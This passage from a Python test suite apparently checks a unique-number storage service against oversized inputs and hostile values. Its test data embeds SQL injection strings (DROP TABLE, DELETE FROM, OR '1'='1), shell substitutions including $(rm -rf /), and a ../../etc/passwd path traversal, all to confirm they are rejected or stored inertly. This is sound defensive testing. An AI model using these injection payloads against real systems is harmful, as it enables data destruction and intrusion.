                LOAD_JSON,
                "the record's key is 5000000 bytes, the limit is 1024; key a command by its "
                "variant id",
            ),
            key=b"k" * 5_000_000,
            details=[
                (
                    "(the record's key)",
                    "is 5000000 bytes, the limit is 1024; key a command by its variant id",
                )
            ],
        ),
        Case(
            "five-megabytes-of-unknown-field-names",
            LOAD_JSON,
            js(
                {
                    "items": [],
                    **{f"f{i:03}" + "x" * 50_000: i for i in range(100)},
                }
            ),
            "VALIDATION_ERROR",
            rejected(
                LOAD_JSON,
                "items: must hold at least 1 item, got an empty array (and 100 more problems)",
            ),
            details_omitted=1,
        ),
        Case(
            "a-duplicate-key-of-a-million-characters",
            LIST,
            b'{"' + b"d" * 1_000_000 + b'": 1, "' + b"d" * 1_000_000 + b'": 2}',
            "VALIDATION_ERROR",
            rejected(
                LIST,
                f"key {'d' * 50!r}... (1000000 characters) appears twice in one object",
            ),
        ),
        # --- refused by the rules of the numbers: no dead letter ---
        Case(
            "mark-used-unknown-sql-number",
            MARK_USED,
            js({"variantId": "1", "uniqueNumber": "'; DROP TABLE processed_commands; --"}),
            "NOT_FOUND",
            'unique number "\'; DROP TABLE processed_commands; --" is not stored: load it first',
        ),
        Case(
            "mark-used-another-variant",
            MARK_USED,
            js({"variantId": "V-THIEF", "uniqueNumber": OTHER_NUMBER}),
            "VARIANT_MISMATCH",
            f"unique number '{OTHER_NUMBER}' belongs to variant 'V-OTHER', not 'V-THIEF'",
        ),
        Case(
            "mark-used-twice",
            MARK_USED,
            js({"variantId": "MU-DONE", "uniqueNumber": USED_NUMBER}),
            "ALREADY_USED",
            f"unique number '{USED_NUMBER}' of variant 'MU-DONE' is already marked used",
        ),
        Case(
            "reserve-for-an-injected-variant",
            RESERVE,
            js({"variant_id": "POOL' OR '1'='1", "type_unique_number": "UIT"}),
            "NO_FREE_NUMBER",
            "variant \"POOL' OR '1'='1\" has no free UIT number left: load more numbers for it",
        ),
        Case(
            "reserve-a-wildcard-variant",
            RESERVE,
            js({"variant_id": "%", "type": "UIT"}),
            "NO_FREE_NUMBER",
            "variant '%' has no free UIT number left: load more numbers for it",
        ),
        Case(
            "load-a-number-of-another-variant",
            LOAD_JSON,
            js(load_body(("FRESH-1", "V-NEW", "UIT"), (OTHER_NUMBER, "V-NEW", "UIT"))),
            "CONFLICT",
            "1 number of this load is already stored under another variant or type, first at "
            "items[1].uniqueNumbers[0] (variant 'V-OTHER'); nothing was loaded",
        ),
        Case(
            "load-one-number-for-two-variants",
            LOAD_JSON,
            js(load_body(("TWICE-1", "V-A", "UIT"), ("TWICE-1", "V-B", "UIT"))),
            "CONFLICT",
            "1 number appears twice in this load with different variants or types, first at "
            "items[1].uniqueNumbers[0]; nothing was loaded",
        ),
        *spreadsheet_cases(),
        # --- hostile but valid: must succeed, stored byte for byte ---
        Case(
            "sql-and-shell-metacharacters",
            LOAD_JSON,
            js(load_body(*((n, "META' --", "UIT") for n in METACHARACTERS))),
            None,
            result={"loaded": len(METACHARACTERS), "alreadyLoaded": 0},
            stored=[(n, "META' --", "UIT") for n in METACHARACTERS],
        ),
        Case(
            "metacharacters-as-json-escapes",
            LOAD_JSON,
            js(
                load_body(("ESC-\"\\/'%;$`", "V-$(id)", "IMEI"), (f"{GS}ESC{GS}", "V-`id`", "UIT")),
                ascii_only=True,
            ),
            None,
            result={"loaded": 2},
            stored=[("ESC-\"\\/'%;$`", "V-$(id)", "IMEI"), (f"{GS}ESC{GS}", "V-`id`", "UIT")],
        ),
        Case(
            "unicode-never-normalised",
            LOAD_JSON,
            js(
                load_body(
                    ("caf\u00e9", "V-U", "UIT"),  # é composed
                    ("cafe\u0301", "V-U", "UIT"),  # e + combining acute
                    ("\u202eRTL\u200bZW\U0001f600", "V-U", "UIT"),
                    ("Ж" * 255, "V-U", "UIT"),  # the longest number, 510 bytes
                )
            ),
            None,
            result={"loaded": 4},
            stored=[
                ("caf\u00e9", "V-U", "UIT"),
                ("cafe\u0301", "V-U", "UIT"),
                ("\u202eRTL\u200bZW\U0001f600", "V-U", "UIT"),
                ("Ж" * 255, "V-U", "UIT"),
            ],
        ),
        Case(
            "excel-with-metacharacters",
            LOAD_EXCEL,
            js(
                excel_body(
                    xlsx_file(
                        [
                            ["'; DROP TABLE x; --", "X-$(rm -rf /)", "UIT"],
                            ["%s", "X-`id`;\\", "IMEI"],
                        ]
                    ),
                    "../../etc/passwd",
                )
            ),
            None,
            result={"loaded": 2},
            stored=[("X-$(rm -rf /)", "'; DROP TABLE x; --", "UIT"), ("X-`id`;\\", "%s", "IMEI")],
        ),
        Case(
            "excel-formula-with-a-calculated-value",
            LOAD_EXCEL,
            js(
                excel_body(
                    raw_xlsx(
                        [
                            '<row r="1"><c r="A1" t="str"><f>"V-"&amp;"F"</f><v>V-F</v></c>'
                            '<c r="B1" t="str"><f>"F-"&amp;CHAR(29)</f><v>F-_x001D_1</v></c>'
                            '<c r="C1" t="str"><f>"UIT"</f><v>UIT</v></c></row>'
                        ]
                    )
                )
            ),
            None,
            result={"loaded": 1},
            stored=[(f"F-{GS}1", "V-F", "UIT")],
        ),
        Case(
            "reserve-with-an-injected-document-id",
            RESERVE,
            js(
                {
                    "variant_id": POOL_VARIANT,
                    "type_unique_number": "UIT",
                    "id": "PO-1'; DELETE FROM unique_numbers; --",
                    "doc_type": "PURCHASE_ORDER",
                }
            ),
            None,
            result={"docType": "PURCHASE_ORDER", "id": "PO-1'; DELETE FROM unique_numbers; --"},
            reserved_for="PO-1'; DELETE FROM unique_numbers; --",
        ),
        Case(
            "mark-used-a-metacharacter-number",
            MARK_USED,
            js({"variantId": MU_VARIANT, "uniqueNumber": METACHAR_NUMBER}),
            None,
            result={"uniqueNumber": METACHAR_NUMBER},
            marked_used=METACHAR_NUMBER,
        ),
        Case(
            "list-a-wildcard-variant",
            LIST,
            js({"variantId": "%", "size": 1000}),
            None,
            result={"uniqueNumbers": [], "hasMore": False},
        ),
        Case(
            "list-an-injected-variant",
            LIST,
            js({"variantId": "POOL' OR 1=1 --", "isUsed": False}),
            None,
            result={"uniqueNumbers": [], "hasMore": False},
        ),
        Case(
            "binary-key",
            LOAD_JSON,
            js(load_body(("KEY-1", "V-KEY", "UIT"))),
            None,
            key=b"\x00\xff\xfe binary key",
            result={"loaded": 1},
            stored=[("KEY-1", "V-KEY", "UIT")],
        ),
        Case(
            "bad-header-but-command-id-in-the-body",
            LIST,
            js({"variantId": POOL_VARIANT, "size": 1, "commandId": "body-id-wins"}),
            None,
            headers=[("command-id", b"\xff\xfe")],
            command_id="body-id-wins",
            result={"size": 1, "hasMore": True},
        ),
    ]
    names = [case.name for case in cases]
    assert len(names) == len(set(names)), "case names must be distinct"
    return cases


def follow_up(
    case: Case, index: int
) -> tuple[dict[str, Any], dict[str, Any], tuple[str, str, str] | None]:
    """(body, fields its result must have, the number it stores) of the command after `case`."""
    after = f"AFTER-{case.name}"
    if case.command is LOAD_JSON:
        return load_body((after, "FOLLOW", "UIT")), {"loaded": 1}, (after, "FOLLOW", "UIT")
    if case.command is LOAD_EXCEL:
        content = xlsx_file([["FOLLOW-X", after, "IMEI"]])
        return excel_body(content), {"loaded": 1}, (after, "FOLLOW-X", "IMEI")
    if case.command is LIST:
        return {"variantId": "V-OTHER"}, {"uniqueNumbers": [_listed(OTHER_NUMBER)]}, None
    if case.command is RESERVE:
        return (
            {"variant_id": POOL_VARIANT, "type_unique_number": "UIT"},
            {"variantId": POOL_VARIANT},
            None,
        )
    number = f"MU-{index}"
    return {"variantId": MU_VARIANT, "uniqueNumber": number}, {"uniqueNumber": number}, None


def _listed(number: str) -> dict[str, Any]:
    return {
        "disabled": False,
        "isReserved": False,
        "isUsed": False,
        "physicalSet": "",
        "purchaseOrder": "",
        "uniqueNumber": number,
        "type": "UIT",
    }
